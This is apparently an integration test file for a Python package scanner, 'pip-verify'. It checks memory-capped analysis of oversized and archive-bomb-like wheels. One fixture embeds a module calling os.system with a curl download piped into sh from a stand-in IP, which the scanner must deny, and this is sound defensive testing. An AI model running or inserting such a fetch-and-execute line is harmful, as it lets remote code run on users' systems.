"""Hostile distributions whose analysis used to take gigabytes (issue 15, defect 3), screened
by a real ``pip-verify`` process whose address space is capped with ``setrlimit``."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.dists import DistSpec, build_wheel
from tests.helpers.policies import without_provenance_requirement

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is Linux's"),
]

ROOT = Path(__file__).resolve().parents[2]
#: What one analysis may take, interpreter and libraries included: the bound README states.
LIMIT = 1024**3
MIB = 1024 * 1024


def _screen(
    tmp_path: Path, wheel: Path, command: str = "screen", limit: int = LIMIT
) -> tuple[int, dict[str, Any]]:

    report = tmp_path / "report.json"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    env["PIP_CONFIG_FILE"] = os.devnull
    env["PYTHONPATH"] = os.pathsep.join(filter(None, (str(ROOT), env.get("PYTHONPATH"))))
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            # The cap is set inside the child, before pip-verify starts (a preexec_fn would
            # run in a forked copy of this multi-threaded test process).
            "import resource, runpy, sys\n"
            f"resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))\n"
            "sys.argv[0] = 'pip-verify'\n"
            "runpy.run_module('verify', run_name='__main__', alter_sys=True)\n",
            command,
            str(wheel),
            "--offline",
            "--policy",
            str(without_provenance_requirement()),
            "--cache-dir",
            str(tmp_path / "cache"),
            "--format",
            "json",
            "-o",
            str(report),
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
        check=False,
    )
    assert "MemoryError" not in result.stderr, result.stderr[-2000:]
    assert result.returncode in (0, 1), result.stderr[-2000:]
    document: dict[str, Any] = json.loads(report.read_text())
    return result.returncode, document


def _rules(report: dict[str, Any]) -> dict[str, str]:
    (package,) = report["packages"]
    return {r["rule"]: r["decision"] for r in package["reasons"]}


@pytest.mark.parametrize("command", ["screen", "check"])
def test_a_50_mb_line_of_python_is_analysed_within_the_memory_cap(
    tmp_path: Path, command: str
) -> None:
    # Random hex does not compress, as in the audit's 24 MB wheel; one line, no breaks.
    line = "x = 0x" + os.urandom(25 * MIB).hex("+", 8).replace("+", " + 0x")[: 50 * MIB] + "\n"
    source = "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n" + line
    wheel = build_wheel(
        DistSpec("oneline", "1.0", files={"oneline/__init__.py": source}), tmp_path / "dist"
    )
    assert wheel.stat().st_size > 20 * MIB
    code, report = _screen(tmp_path, wheel, command)
    assert code == 1, report
    rules = _rules(report)
    # Too large to parse: scanned as text, which still sees the download piped into a shell,
    # and the unreadable import-time module is itself a reason to stop.
    assert rules.get("download-exec") == "deny", rules
    assert rules.get("unparsable-source") == "deny", rules


def test_hundreds_of_large_members_are_not_all_held_at_once(tmp_path: Path) -> None:
    # 450 MiB of members that compress to almost nothing, read under a 384 MiB cap: the
    # analysis used to keep every member's bytes until the RECORD check at the end.
    body = "x = 1\n" * (MIB // 6)
    files = {f"many/m{i:04}.py": body for i in range(450)}
    files["many/__init__.py"] = ""
    wheel = build_wheel(DistSpec("many", "1.0", files=files), tmp_path / "dist")
    assert wheel.stat().st_size < 4 * MIB
    code, report = _screen(tmp_path, wheel, limit=384 * MIB)
    assert code == 0, report
    assert not {"archive-bomb", "record-mismatch"} & set(_rules(report)), _rules(report)
